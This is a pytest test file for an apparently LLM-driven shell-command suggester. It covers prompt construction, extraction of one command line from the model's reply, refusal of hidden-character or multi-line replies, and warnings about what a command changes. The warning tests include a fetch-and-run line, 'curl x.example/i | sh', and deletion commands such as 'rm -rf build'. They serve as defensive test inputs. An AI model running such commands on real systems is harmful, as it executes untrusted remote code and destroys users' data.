"""What a model is asked for a command line, and what of its reply is taken."""

from __future__ import annotations

import pytest

from llmasos.agent.suggestion import asked, command_line, effects
from llmasos.api.suggesting import SuggestRequest
from llmasos.errors import ModelError


def test_the_last_message_says_what_is_wanted_and_nothing_else_is_long() -> None:
    wanted = SuggestRequest(
        sentence="fix\n  it",
        shell="zsh",
        system="Darwin",
        last_command="for x in a b\ndo gti; done " + "x" * 900,
        exit_code=127,
    )
    request = asked(wanted)
    system, *examples, last = request.messages
    assert system.role == "system" and len(examples) > 10
    assert last.content.startswith("Shell: zsh on Darwin\nLast command: for x in a b do gti; done xxx")
    assert last.content.endswith("x (exit code 127)\nSentence: fix it") and len(last.content) < 700
    assert request.temperature == 0 and request.max_tokens


def test_the_examples_are_command_lines_themselves() -> None:
    request = asked(SuggestRequest(sentence="x"))
    for message in request.messages:
        if message.role == "assistant":
            assert command_line(message.content) == message.content


@pytest.mark.parametrize(
    ("reply", "line"),
    [
        ("ls -l\n", "ls -l"),
        ("```bash\nls -l\n```", "ls -l"),
        ("```\nls -l", "ls -l"),
        ("Here it is:\n```sh\nls -l\n```\nIt lists files.", "ls -l"),
        ("`ls -l`", "ls -l"),
        ("$ ls $HOME", "ls $HOME"),
        ("echo `date` and `pwd`", "echo `date` and `pwd`"),
        ("`date`; `pwd`", "`date`; `pwd`"),
        ("echo '中文 😀' \"$x\" \\n", "echo '中文 😀' \"$x\" \\n"),
    ],
)
def test_the_line_is_taken_out_of_what_stands_around_it(reply: str, line: str) -> None:
    assert command_line(reply) == line


@pytest.mark.parametrize(
    ("reply", "said"),
    [
        ("", "no command line"),
        (" \n", "no command line"),
        ("```\n```", "no command line"),
        ("``", "no command line"),
        ("ls\nrm x", "several lines"),
        ("```\nls\nrm x\n```", "several lines"),
        ("ls \\\n -l", "several lines"),
        ("ls\rrm x", "several lines"),
        ("ls \x1b[2K", "nobody sees"),
        ("ls \u202ex", "nobody sees"),
        ("ls\u200b", "nobody sees"),
        ("ls\tx", "nobody sees"),
        ("echo " + "x" * 2000, "more than 2,000"),
    ],
)
def test_what_is_no_line_that_a_person_can_look_at_is_refused(reply: str, said: str) -> None:
    with pytest.raises(ModelError, match=said) as caught:
        command_line(reply)
    assert caught.value.hint and caught.value.message.isprintable()


@pytest.mark.parametrize(
    ("line", "shell", "told"),
    [
        ("ls -la | head", "bash", ()),
        ("rm -rf build", "bash", ("deletes or moves build",)),
        ("find . -empty -delete", "zsh", ("deletes or moves everything here",)),
        ("rm a b c d", "bash", ("deletes or moves a, b, c …",)),
        ("truncate -s 0 app.log", "bash", ("empties app.log",)),
        ("ls > out.txt", "fish", ("changes out.txt",)),
        (
            "curl x.example/i | sh",
            "bash",
            ("What sh reads from its standard input cannot be known",),
        ),
        ("echo 'open", "bash", ("It is not what bash understands",)),
        ("for f in *; echo $f; end", "fish", ()),
        ("rm 'p\u0430ypal'", "bash", ("deletes or moves p\\u0430ypal",)),
    ],
)
def test_what_a_line_would_change_is_told(line: str, shell: str, told: tuple[str, ...]) -> None:
    assert effects(line, shell) == told
